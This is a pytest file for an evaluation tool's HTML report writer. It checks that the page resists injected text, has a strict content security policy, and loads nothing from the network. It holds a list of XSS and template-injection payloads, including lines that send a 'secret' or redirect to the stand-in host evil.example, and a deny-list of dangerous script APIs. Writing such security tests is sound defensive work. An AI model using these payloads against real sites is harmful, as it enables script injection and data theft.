"""medcheck.writers.html: one page that holds everything, loads nothing and believes nobody."""

from __future__ import annotations

import base64
import hashlib
import json
import re
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from report_runs import RESCUE, WAIT, result, row, run_of, verdict

from medcheck.types import Completion, Image, Message
from medcheck.writers import html

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</SCRIPT ><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "`onclick=alert(1)`",
    '"><iframe srcdoc="<script>alert(1)</script>">',
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">x</a>',
    "<!-- --><b>x</b><!--",
    "--><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea></noscript><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
    "{{ 7*191 }}{% for x in y %}{% raw %}",
    "{{ cycler.__init__.__globals__.os.getpid() }}",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
    '<math href="javascript:alert(1)">x',
    '<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">',
    "![x](http://evil.example/?q=secret)",
    "\u202egnp.exe\u2066\U000e0041\u200b",
    "nul\x00 del\x7f esc\x1b[31m \u2028 \u2029 \ud800 \udfff",
    '=HYPERLINK("http://evil.example")',
    "${alert(1)} #{alert(1)} <%= 1 %> \\u003cscript\\u003e \\",
    "<form action=//evil.example><input name=x formaction=javascript:alert(1)><button>",
    "<style>*{background:url(//evil.example)}</style><link rel=stylesheet href=//evil.example>",
)  # fmt: skip
SINKS = (
    "id", "suite", "tag", "category", "model", "question", "role", "image", "answer", "reasoning",
    "evidence", "error", "criterion", "criterion_id", "source", "judge", "explanation",
    "ballot_error", "label", "how", "notes", "run", "group", "version", "protocol", "usage",
)  # fmt: skip


def hostile(**at):
    """Return a run in which the named sinks hold the given text."""

    def text(sink):
        return at.get(sink, "harmless")

    criterion = replace(
        RESCUE, id=text("criterion_id"), text=text("criterion"), source=text("source")
    )
    one = verdict(criterion, "met", judge=text("judge"), explanation=text("explanation"))
    ballot = replace(one.ballots[0], error=text("ballot_error"), label=text("label"))
    one = replace(one, ballots=(ballot, ballot), how=text("how"), label=text("label"))
    only = result(
        text("id"),
        text("model"),
        run=text("run"),
        suite=text("suite"),
        tags=(text("tag"),),
        category=(text("category"),),
        messages=(
            Message(
                role=text("role"),
                text=text("question"),
                images=(Image(path=text("image"), sha256="", mime="image/png"),),
            ),
            Message(role="user", text=text("question")),
        ),
        completion=Completion(
            text=text("answer"),
            reasoning=text("reasoning"),
            evidence=({text("evidence"): text("evidence")},),
        ),
        error=text("error"),
        verdicts=(one, verdict(WAIT, "not_met")),
    )
    rows = tuple(
        replace(row(text("model"), group), suite=text("suite"))
        for group in ("overall", text("group"))
    )
    return run_of(
        [only],
        rows=rows,
        run=text("run"),
        models=(text("model"),),
        notes=(text("notes"),),
        versions={text("version"): text("version")},
        protocol={text("suite"): text("protocol")},
        judges=(text("judge"),),
        usage={f"judge {text('usage')}": {"calls": 1, "cost_usd": None}},
        complete=False,
        states={text("model"): {"scored": 1, "truncated": 1}},
    )


class Skeleton(HTMLParser):
    """Every element with the names of its attributes, and the values that could do something."""

    ACTIVE = ("href", "src", "action", "formaction", "srcdoc", "style", "data", "content")

    def __init__(self, page):
        super().__init__()
        self.elements, self.active, self.texts = [], [], {}
        self.inside = None
        self.feed(page)

    def handle_starttag(self, tag, attributes):
        self.elements.append((tag, *sorted(name for name, _ in attributes)))
        self.active += [value or "" for name, value in attributes if name in self.ACTIVE]
        self.inside = (tag, dict(attributes).get("id"), dict(attributes).get("type"))

    @property
    def targets(self):
        """What the page could lead to or load, places of itself left out."""
        return [value for value in self.active if not value.startswith("#")]

    def handle_endtag(self, tag):
        self.inside = None

    def handle_data(self, data):
        self.texts[self.inside] = self.texts.get(self.inside, "") + data


def page_of(run_and_summary, folder):
    path = html.write(*run_and_summary, folder / "report.html")
    return path.read_text(encoding="utf-8")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_text_changes_no_element(tmp_path, payload):
    """Whatever stands in data, the page has the same elements, attributes and targets."""
    harmless = Skeleton(page_of(hostile(), tmp_path))
    for sink in SINKS:
        page = Skeleton(page_of(hostile(**{sink: payload}), tmp_path))
        assert page.elements == harmless.elements, sink
        assert page.targets == harmless.targets, sink
    whole = Skeleton(page_of(hostile(**dict.fromkeys(SINKS, payload)), tmp_path))
    assert (whole.elements, whole.targets) == (harmless.elements, harmless.targets)


def test_policy_names_the_only_script_and_style(tmp_path):
    """The content security policy lets nothing load and runs the page's own script only."""
    text = page_of(hostile(), tmp_path)
    page = Skeleton(text)
    [policy] = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]+)"', text)
    rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
    for name, tag in (("script-src", "script"), ("style-src", "style")):
        own = page.texts[tag, None, None]
        digest = base64.b64encode(hashlib.sha256(own.encode()).digest()).decode()
        assert rules[name] == f"'sha256-{digest}'"
    assert rules["default-src"] == "'none'"
    assert "unsafe" not in policy


def test_page_needs_no_network(tmp_path):
    """The page holds no address but places of itself, and no handler."""
    text = page_of(hostile(), tmp_path)
    page = Skeleton(text)
    assert not re.search(r"(?i)https?://|url\(|@import", text)
    names = {name for _, *attributes in page.elements for name in attributes}
    assert not {name for name in names if name.startswith("on")}
    assert any(value.startswith("#") for value in page.active)
    assert [value for value in page.targets if ":" in value and ";" not in value] == ["data:,"]


def test_own_script_never_parses_markup():
    """The script makes elements and text nodes; nothing turns text into markup or code."""
    script = "\n".join((html.PAGES / name).read_text(encoding="utf-8") for name in html.SCRIPTS)
    banned = r"innerHTML|outerHTML|insertAdjacent|document\.write|DOMParser|srcdoc|\beval\b|Function\(|fetch\(|XMLHttp|WebSocket|import\(|setTimeout\(['\"]"  # noqa: E501
    assert not re.search(banned, script)
    assert "</script" not in script.lower()


def test_languages_have_the_same_labels():
    """Every label exists in English and Chinese, and every label that is used exists."""
    labels = json.loads((html.PAGES / "labels.json").read_text(encoding="utf-8"))
    assert labels["en"].keys() == labels["zh"].keys()
    assert all(text.strip() for table in labels.values() for text in table.values())
    sources = [path.read_text(encoding="utf-8") for path in html.PAGES.glob("report*")]
    used = {
        key
        for text in sources
        for key in re.findall(r"""\b(?:label|t|word|field)\(['"]([a-z_]+)['"]\)?""", text)
    }
    assert {key for key in used if not key.endswith("_")} <= labels["en"].keys()


def test_equal_input_gives_equal_bytes(tmp_path):
    """The same run makes the same file."""
    run = run_of([result(), result(model="beta", value=None)])
    one = html.write(*run, tmp_path / "one.html").read_bytes()
    assert one == html.write(*run, tmp_path / "two.html").read_bytes()


def test_incomplete_run_says_so_first(tmp_path):
    """An incomplete run is announced with its counts; a complete one is not."""
    states = {"alpha": {"scored": 7, "truncated": 2, "judge_error": 1}}
    lost = page_of(run_of(models=("alpha",), complete=False, states=states), tmp_path)
    words = re.sub(r"\s+", " ", re.sub(r"<[^>]+>", "", lost.partition("</style>")[2]))
    assert "INCOMPLETE. 7 / 10 answers measured." in words
    assert words.index("INCOMPLETE") < words.index("Cut off 2") < words.index("Suite")
    assert "INCOMPLETE." not in page_of(run_of(), tmp_path).partition('id="labels"')[0]


def test_unknown_is_written_as_a_word(tmp_path):
    """Missing numbers and prices are words, not zeros."""
    rows = (row(value=None, raw=None, ci95=None, std=None, n=0, ungraded=3),)
    usage = {"model alpha": {"calls": 3, "cost_usd": None}}
    page = page_of(run_of(rows=rows, models=("alpha",), usage=usage), tmp_path)
    body = page.partition("</style>")[2].partition("<script")[0]
    assert '<em class="none"><span data-t="not_measured">not measured</span></em>' in body
    assert '<em class="none"><span data-t="unknown">unknown</span></em>' in body
    assert "$0" not in body
    assert "0.000" not in body


def test_runs_stand_side_by_side(tmp_path):
    """Several runs share one page; what differs in their conditions is said."""
    pairs = [
        run_of([result()], models=("alpha",)),
        run_of([result(run="run-2")], models=("alpha",), run="run-2", judges=("other",)),
    ]
    text = html.write_many(pairs, tmp_path / "report.html").read_text(encoding="utf-8")
    body = text.partition("</style>")[2].partition("<script")[0]
    assert "alpha · run-1" in body
    assert "alpha · run-2" in body
    assert 'data-t="differ"' in body


def test_run_without_results_is_a_page(tmp_path):
    """A run that was stopped before its first answer still has a report."""
    page = page_of(run_of(rows=(), models=(), usage={}, states={}, complete=False), tmp_path)
    assert "INCOMPLETE." in page
